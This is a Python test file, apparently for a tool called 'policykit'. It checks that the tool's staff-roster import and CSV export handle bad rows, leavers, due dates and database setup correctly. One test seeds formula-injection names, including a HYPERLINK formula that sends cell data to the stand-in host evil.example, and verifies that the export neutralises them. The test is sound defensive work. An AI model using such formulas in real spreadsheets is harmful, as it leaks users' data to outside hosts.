"""Issue 26, records: the roster import and the CSV export through `policykit records`, on a
real SQLite file and a real PostgreSQL server: located errors with nothing written, leavers
marked not deleted, statuses and due dates, and formulas neutralised in the export."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess

import pytest

from test_records_support import postgres_server, policykit, records_project

DB = ".policykit/records.sqlite3"

pytestmark = pytest.mark.slow  # runs policykit and its service in subprocesses



@pytest.fixture(scope="module")
def postgres():
    with postgres_server() as url:
        yield url


def export(root, *args):
    result = policykit(root, "records", "export", "--format", "csv", *args)
    assert result.returncode == 0, result.stderr
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_the_database_is_made_outside_git_and_readable_by_its_owner_alone(tmp_path):
    root = records_project(tmp_path)
    assert (root / DB).is_file()
    assert os.stat(root / DB).st_mode & 0o077 == 0
    with sqlite3.connect(root / DB) as db:
        tables = {r[0] for r in db.execute("select name from sqlite_master where type='table'")}
        assert {"staff", "confirmations", "attempts", "audit", "alembic_version"} <= tables
        assert db.execute("select version_num from alembic_version").fetchall() == [("0002",)]


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_export_has_one_row_per_person_and_item_with_due_dates(tmp_path, backend, request):
    db = request.getfixturevalue("postgres") if backend == "postgresql" else None
    root = records_project(tmp_path, db=db)
    rows = export(root, "--on", "2026-01-25", *(["--db", db] if db else []))
    assert [(r["email"], r["item"], r["status"], r["due_on"]) for r in rows] == [
        ("ann@school.org", "policy:social-media", "overdue", "2026-01-19"),
        ("ann@school.org", "quiz:social-media-induction", "overdue", "2026-01-19"),
        ("bob@school.org", "policy:social-media", "due", "2026-02-15"),
        ("bob@school.org", "quiz:social-media-induction", "due", "2026-02-15"),
        ("cat@school.org", "policy:social-media", "due", "2026-02-15"),
        ("cat@school.org", "quiz:social-media-induction", "due", "2026-02-15")]
    assert {r["version"] for r in rows} == {"2023.1"}
    assert list(rows[0]) == ["email", "name", "role", "item", "version", "status", "score",
                             "completed_on", "due_on"]


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"])
def test_a_bad_roster_is_refused_whole_with_each_row_located(tmp_path, backend, request):
    db = request.getfixturevalue("postgres") if backend == "postgresql" else None
    root = records_project(tmp_path, db=db)
    before = export(root, "--on", "2026-01-25", *(["--db", db] if db else []))
    (root / "bad.csv").write_text(
        "email,name,role,start_date\n"
        "new@school.org,New Person,teaching-staff,2026-03-01\n"
        ",No Email,teaching-staff,2026-03-01\n"
        "x@school.org,Unknown Role,teacher,2026-03-01\n"
        "y@school.org,Bad Date,volunteers,2026-02-30\n", "utf-8")
    result = policykit(root, "records", "staff", "import", "bad.csv", *(["--db", db] if db else []))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "bad.csv:3: no email" in result.stderr
    assert "bad.csv:4: unknown role teacher" in result.stderr
    assert "teaching-staff" in result.stderr.split("bad.csv:4:")[1].splitlines()[0]
    assert "bad.csv:5: start_date 2026-02-30 is not a date" in result.stderr
    assert "nothing imported" in result.stderr
    after = export(root, "--on", "2026-01-25", *(["--db", db] if db else []))
    assert after == before  # the good row was not written either


def test_leavers_are_marked_not_deleted_and_come_back(tmp_path):
    root = records_project(tmp_path)
    (root / "less.csv").write_text("email,name,role,start_date\n"
                                   "ann@school.org,Ann Trainer,teaching-staff,2026-01-05\n",
                                   "utf-8")
    result = policykit(root, "records", "staff", "import", "less.csv")
    assert result.returncode == 0, result.stderr
    assert "2 marked as leavers" in result.stdout
    with sqlite3.connect(root / DB) as db:
        people = dict(db.execute("select email, left_on from staff").fetchall())
        audit = db.execute("select action, subject from audit where action='staff left'"
                           " order by subject").fetchall()
    assert set(people) == {"ann@school.org", "bob@school.org", "cat@school.org"}
    assert people["ann@school.org"] is None and people["bob@school.org"] is not None
    assert audit == [("staff left", "bob@school.org"), ("staff left", "cat@school.org")]
    assert {r["email"] for r in export(root)} == {"ann@school.org"}
    assert policykit(root, "records", "staff", "import", "roster.csv").returncode == 0
    assert {r["email"] for r in export(root)} == {"ann@school.org", "bob@school.org",
                                                  "cat@school.org"}


def test_hostile_names_are_neutralised_in_the_csv(tmp_path):
    hostile = ("email,name,role,start_date\n"
               'eve@school.org,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",volunteers,2026-01-05\n'
               "tab@school.org,\"\tTabbed\",volunteers,2026-01-05\n"
               "at@school.org,@SUM(1+1),volunteers,2026-01-05\n"
               "plus@school.org,+1-2,volunteers,2026-01-05\n"
               "minus@school.org,-2+3,volunteers,2026-01-05\n")
    root = records_project(tmp_path, roster=hostile)
    names = {r["email"]: r["name"] for r in export(root)}
    assert names["eve@school.org"].startswith("'=HYPERLINK(")
    assert names["at@school.org"] == "'@SUM(1+1)"
    assert names["plus@school.org"] == "'+1-2"
    assert names["minus@school.org"] == "'-2+3"
    # a tab at the start of a cell is stripped on import: no cell starts with a formula
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names.values())


def test_a_database_it_cannot_open_is_a_clear_error(tmp_path):
    root = records_project(tmp_path)
    result = policykit(root, "records", "export", "--db",
                       "postgresql://nobody@/none?host=/nonexistent&port=1")
    assert result.returncode == 1
    assert "cannot open the records database" in result.stderr
    assert "Traceback" not in result.stderr
    result = policykit(root, "records", "export", "--db", "mysql://x/y")
    assert result.returncode == 1 and "not a database address" in result.stderr


def test_a_new_project_keeps_the_records_database_out_of_git_and_docker(tmp_path):
    target = tmp_path / "school"
    made = policykit(tmp_path, "init", str(target), "--name", "St Mary's")
    assert made.returncode == 0, made.stderr
    subprocess.run(["git", "init", "-q", str(target)], check=True)
    (target / "roster.csv").write_text("email,name,role,start_date\n", "utf-8")
    result = policykit(target, "records", "staff", "import", "roster.csv")
    assert result.returncode == 0, result.stderr
    assert (target / DB).is_file()
    ignored = subprocess.run(["git", "-C", str(target), "status", "--porcelain",
                              "--untracked-files=all"], capture_output=True, text=True).stdout
    assert ".policykit/schemas/" in ignored  # the editor schemas stay in git
    assert "records.sqlite3" not in ignored
    assert "/.policykit/records.sqlite3*" in (target / ".dockerignore").read_text("utf-8")


def test_without_the_records_extra_the_command_says_what_to_install(tmp_path):
    root = records_project(tmp_path)
    code = ("import sys; sys.modules['sqlalchemy'] = None; from policykit.cli.main import main; "
            "sys.exit(main(['records', 'export']))")
    import sys
    result = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True,
                            text=True, timeout=120)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "needs sqlalchemy" in result.stderr and "policykit-sites[records]" in result.stderr
